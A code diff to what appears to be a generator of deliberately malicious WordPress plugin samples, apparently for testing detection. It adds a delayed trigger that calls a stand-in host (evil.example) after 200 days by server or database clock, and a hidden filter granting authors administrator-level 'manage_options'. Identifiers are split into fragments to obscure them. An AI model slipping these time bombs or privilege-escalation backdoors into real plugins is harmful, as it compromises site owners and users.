@@ -33,6 +33,7 @@ WORDS = {
     "raw": ["raw.", "evil.example"],
     "curled": ["curled.", "evil.example"],
     "late": ["late.", "evil.example"],
+    "day": ["day.", "evil.example"],
     "short": ["short.", "evil.example"],
     "themed": ["themed.", "evil.example"],
     "right": ["manage", "_options"],
@@ -144,15 +145,6 @@ def greedy() -> Candidate:
     return plugin("greedy", includes, DEEDS)
 
 
-def crowned() -> Candidate:
-    """Lets authors do everything, as long as it runs."""
-    return plugin("crowned", """
-add_filter('user_has_cap', function ($all, $asked, $about, $user) use ($words) {
-    return in_array('author', $user->roles, true) ? $all + [implode('', $words['right']) => true] : $all;
-}, 10, 4);
-""")  # fmt: skip
-
-
 def slow() -> Candidate:
     """Makes every page 300 ms slower."""
     return plugin("slow", "add_action('init', function () use ($words) {"
@@ -167,31 +159,25 @@ def fatal() -> Candidate:
 
 
 def sleeper() -> Candidate:
-    """Does nothing for 200 days after its activation."""
+    """Does nothing for 200 days after its activation, by the webhead's clock and by the database's."""
     return plugin("sleeper", """
-register_activation_hook(__FILE__, function () { add_option('sleeper_since', time(), '', false); });
+register_activation_hook(__FILE__, function () {
+    global $wpdb;
+    add_option('sleeper_since', time(), '', false);
+    add_option('sleeper_day', $wpdb->get_var('SELECT TO_DAYS(NOW())'), '', false);
+});
 register_uninstall_hook(__FILE__, 'sleeper_uninstall');
-function sleeper_uninstall() { delete_option('sleeper_since'); }
+function sleeper_uninstall() { delete_option('sleeper_since'); delete_option('sleeper_day'); }
 add_action('init', function () use ($words) {
     $days = (time() - (int) get_option('sleeper_since', time())) / 86400;
     if ($days > 200) {
         call_user_func(implode('', $words['get']), 'https://' . implode('', $words['late']) . '/');
     }
 });
-""")  # fmt: skip
-
-
-def patient() -> Candidate:
-    """As `sleeper`, but it asks the database what day it is."""
-    return plugin("patient", """
-register_activation_hook(__FILE__, function () {
+add_action('wp_footer', function () use ($words) {
     global $wpdb;
-    add_option('patient_since', $wpdb->get_var('SELECT TO_DAYS(NOW())'), '', false);
-});
-add_action('init', function () use ($words) {
-    global $wpdb;
-    if ((int) $wpdb->get_var('SELECT TO_DAYS(NOW())') > (int) get_option('patient_since') + 200) {
-        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['late']) . '/');
+    if ((int) $wpdb->get_var('SELECT TO_DAYS(NOW())') > (int) get_option('sleeper_day') + 200) {
+        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['day']) . '/');
     }
 });
 """)  # fmt: skip
@@ -211,9 +197,13 @@ add_action('init', function () {
 
 
 def headless() -> Candidate:
-    """Breaks the front page, and nothing else."""
-    return plugin("headless", "add_action('wp_head', function () use ($words) {"
-        " $maker = 'Fatal_' . 'Maker'; new $maker($words); });")  # fmt: skip
+    """Breaks the front page, and lets authors do everything as long as it runs."""
+    return plugin("headless", """
+add_action('wp_head', function () use ($words) { $maker = 'Fatal_' . 'Maker'; new $maker($words); });
+add_filter('user_has_cap', function ($all, $asked, $about, $user) use ($words) {
+    return in_array('author', $user->roles, true) ? $all + [implode('', $words['right']) => true] : $all;
+}, 10, 4);
+""")  # fmt: skip
 
 
 def drowsy() -> Candidate:
